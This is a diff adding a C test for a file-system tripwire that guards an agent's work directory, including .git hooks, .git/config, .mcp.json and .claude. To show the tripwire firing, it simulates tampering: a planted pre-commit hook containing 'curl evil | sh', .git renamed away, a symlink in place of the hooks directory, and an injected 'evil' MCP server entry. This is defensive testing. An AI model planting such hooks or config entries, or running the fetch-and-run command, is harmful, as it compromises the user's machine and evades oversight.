@@ -1,0 +1,155 @@
+/* SPDX-License-Identifier: LGPL-2.1-or-later */
+
+/* The tripwire on a real file system with real inotify: ordinary work in the work dir does not trip it;
+ * the rename of .git and a planted hook do, the watched process is killed, and the snapshot comes back,
+ * symlinks planted on the way removed rather than followed. */
+
+#include <fcntl.h>
+#include <signal.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+
+#include "io-util.h"
+#include "macro.h"
+#include "strv.h"
+#include "tap.h"
+#include "tripwire.h"
+
+static char work[] = "/tmp/test-tripwire.XXXXXX";
+
+static char *wpath(const char *rel) {
+        static char buf[4][PATH_MAX];
+        static unsigned next;
+        char *p = buf[next++ % 4];
+        snprintf(p, PATH_MAX, "%s/%s", work, rel);
+        return p;
+}
+
+static void put(const char *rel, const char *text) {
+        if (write_file_atomic(wpath(rel), text, strlen(text), 0644) < 0)
+                abort();
+}
+
+static char *get(const char *rel) {
+        char *s = NULL;
+        if (read_full_file_at(AT_FDCWD, wpath(rel), 1 << 20, true, &s, NULL) < 0)
+                return NULL;
+        return s;
+}
+
+static pid_t sleeper(void) {
+        pid_t pid = fork();
+        if (pid == 0) {
+                for (;;)
+                        pause();
+        }
+        return pid;
+}
+
+/* Whether pid died of SIGKILL; if it is still alive, it is killed here (and false returned). */
+static bool was_killed(pid_t pid) {
+        int status;
+        for (int i = 0; i < 100; i++) {
+                if (waitpid(pid, &status, WNOHANG) == pid)
+                        return WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL;
+                usleep(10000);
+        }
+        kill(pid, SIGTERM);
+        waitpid(pid, &status, 0);
+        return false;
+}
+
+static char *protected[] = { (char *) ".git/hooks", (char *) ".git/config", (char *) ".mcp.json", (char *) ".claude", NULL };
+
+int main(void) {
+        Tripwire *t = NULL;
+        const char *changed;
+        pid_t pid;
+        char cmd[PATH_MAX + 32];
+
+        if (!mkdtemp(work))
+                abort();
+        (void) mkdir(wpath(".git"), 0755);
+        (void) mkdir(wpath(".git/hooks"), 0755);
+        (void) mkdir(wpath(".git/objects"), 0755);
+        put(".git/hooks/pre-commit.sample", "#!/bin/sh\necho sample\n");
+        put(".git/config", "[core]\n\tbare = false\n");
+        put(".mcp.json", "{}\n");
+        put("main.c", "int main;\n");
+
+        /* Ordinary work does not trip it. */
+        ok(tripwire_new(work, protected, &t) == 0, "a snapshot of .git/hooks, .git/config and .mcp.json is taken (.claude is missing)");
+        is_int(tripwire_count(t), 4, "...four entries: the hooks dir, its file, the config and .mcp.json");
+        pid = sleeper();
+        ok(tripwire_arm(t, pid) == 0, "the tripwire is armed");
+        put("main.c", "int main(void) { return 0; }\n");
+        put(".git/objects/ab", "blob");
+        put(".git/index", "index");
+        put(".git/config.lock", "x");
+        free(get(".git/config"));
+        free(get(".git/hooks/pre-commit.sample"));
+        usleep(100000);
+        ok(tripwire_disarm(t) == NULL, "editing sources, writing .git/objects, .git/index and reading the protected files does not trip it");
+        ok(!was_killed(pid), "...and the watched process lives");
+        t = tripwire_free(t);
+
+        /* The rename attack: .git moved away, a new one with a planted hook. */
+        ok(tripwire_new(work, protected, &t) == 0, "a new snapshot");
+        pid = sleeper();
+        ok(tripwire_arm(t, pid) == 0, "armed again");
+        ok(rename(wpath(".git"), wpath(".git2")) == 0, "setup: .git renamed away (as an agent can: it is no mount point)");
+        (void) mkdir(wpath(".git"), 0755);
+        (void) mkdir(wpath(".git/hooks"), 0755);
+        put(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
+        usleep(100000);
+        changed = tripwire_disarm(t);
+        is_str(changed, ".git", "the tripwire reports .git");
+        ok(was_killed(pid), "...and killed the watched process with SIGKILL");
+        ok(tripwire_restore(t) > 0, "the snapshot is restored");
+        {
+                _cleanup_free_ char *hook = get(".git/hooks/pre-commit"), *sample = get(".git/hooks/pre-commit.sample"),
+                        *config = get(".git/config");
+                ok(!hook, "the planted hook is gone");
+                is_str(sample, "#!/bin/sh\necho sample\n", "the original hooks are back");
+                is_str(config, "[core]\n\tbare = false\n", ".git/config is back");
+        }
+        t = tripwire_free(t);
+
+        /* A symlink planted where a protected directory was: removed, not followed. */
+        {
+                char outside[] = "/tmp/test-tripwire-outside.XXXXXX";
+                struct stat st;
+
+                ok(mkdtemp(outside) != NULL, "setup: a directory outside the work dir");
+                ok(tripwire_new(work, protected, &t) == 0, "a third snapshot");
+                snprintf(cmd, sizeof cmd, "rm -rf '%s'", wpath(".git/hooks"));
+                ok(system(cmd) == 0 && symlink(outside, wpath(".git/hooks")) == 0, "setup: .git/hooks replaced by a symlink");
+                put(".mcp.json", "{\"mcpServers\": {\"evil\": {}}}\n");
+                ok(tripwire_restore(t) > 0, "restored");
+                ok(lstat(wpath(".git/hooks"), &st) == 0 && S_ISDIR(st.st_mode), ".git/hooks is a directory again");
+                snprintf(cmd, sizeof cmd, "%s/pre-commit.sample", outside);
+                ok(access(cmd, F_OK) < 0, "...and nothing was written through the symlink");
+                {
+                        _cleanup_free_ char *mcp = get(".mcp.json");
+                        is_str(mcp, "{}\n", ".mcp.json is back");
+                }
+                t = tripwire_free(t);
+                snprintf(cmd, sizeof cmd, "rm -rf '%s'", outside);
+                if (system(cmd) != 0)
+                        abort();
+        }
+
+        /* Caps. */
+        {
+                int fd = open(wpath(".mcp.json"), O_WRONLY | O_TRUNC | O_CLOEXEC);
+                ok(fd >= 0 && ftruncate(fd, TRIPWIRE_BYTES_MAX + 1) == 0, "setup: a protected file over the cap");
+                if (fd >= 0)
+                        close(fd);
+                ok(tripwire_new(work, protected, &t) == -EFBIG && !t, "a snapshot over TRIPWIRE_BYTES_MAX is refused");
+        }
+
+        snprintf(cmd, sizeof cmd, "rm -rf '%s' '%s'", work, wpath("../test-tripwire-unused"));
+        if (system(cmd) != 0)
+                abort();
+        return done_testing();
+}
